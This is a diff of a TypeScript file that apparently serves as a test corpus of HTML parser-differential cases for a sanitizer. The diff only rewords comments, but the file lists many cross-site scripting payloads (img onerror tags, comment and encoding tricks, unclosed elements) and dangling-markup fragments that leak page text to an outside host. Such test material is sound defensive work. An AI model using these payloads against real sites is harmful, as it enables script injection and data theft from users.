@@ -2,7 +2,7 @@ import { decimal, ELSEWHERE, hexadecimal, percent, RUN } from './payload.ts';
 
 const IMG = `<img src=x onerror=${RUN}>`;
 
-/** What no parser may take for harmless because of how it begins or ends. */
+/** Tags with unusual beginnings and ends. */
 const BROKEN_TAGS = [
   `<img src=x onerror=${RUN}`,
   `<img src=x onerror="${RUN}`,
@@ -61,7 +61,7 @@ const BROKEN_TAGS = [
   `<p class="${'x'.repeat(1000)}" onclick=${RUN}>x</p>`,
 ];
 
-/** Comments and sections, whose end parsers disagree on. */
+/** Comments and sections whose end is ambiguous. */
 const COMMENTS = [
   `<!--><img src=x onerror=${RUN}>-->`,
   `<!---><img src=x onerror=${RUN}>-->`,
@@ -91,7 +91,7 @@ const COMMENTS = [
   `<!--[if]><script>${RUN}</script -->`,
 ];
 
-/** Angle brackets that are none, or become some when they are decoded or folded. */
+/** Characters that become angle brackets when they are decoded or normalised. */
 const ENCODED = [
   `&lt;img src=x onerror=${RUN}&gt;`,
   `&LT;img src=x onerror=${RUN}&GT;`,
@@ -135,13 +135,13 @@ const ENCODED = [
   `\u{e003c}img onerror=${RUN}\u{e003e}`,
 ];
 
-/** Text elements left open, which swallow what follows, or end before it does. */
+/** Text elements without an end tag, which swallow the following text, or with an early end. */
 const UNCLOSED = [
   ...['script', 'style', 'textarea', 'title', 'xmp', 'iframe', 'noscript', 'noembed', 'noframes'],
   ...['plaintext', 'template', 'select', 'svg', 'math', 'option', 'button', 'table', 'a', 'form'],
 ].flatMap((name) => [`<${name}>${IMG}`, `</${name}>${IMG}`, `${IMG}<${name}`]);
 
-/** Markup left hanging, which would send what follows to somebody else. */
+/** Dangling markup, which would send the following text to another site. */
 const DANGLING = [
   `<img src='//${ELSEWHERE}/?`,
   `<img src="//${ELSEWHERE}/?`,
@@ -168,7 +168,7 @@ const DANGLING = [
   `&#x`,
 ];
 
-/** What parsers disagree on: broken tags, comments, encodings, open ends. */
+/** Differences between parsers: broken tags, comments, encodings, missing ends. */
 export const PARSER_DIFFERENCES: readonly string[] = [
   ...BROKEN_TAGS,
   ...COMMENTS,
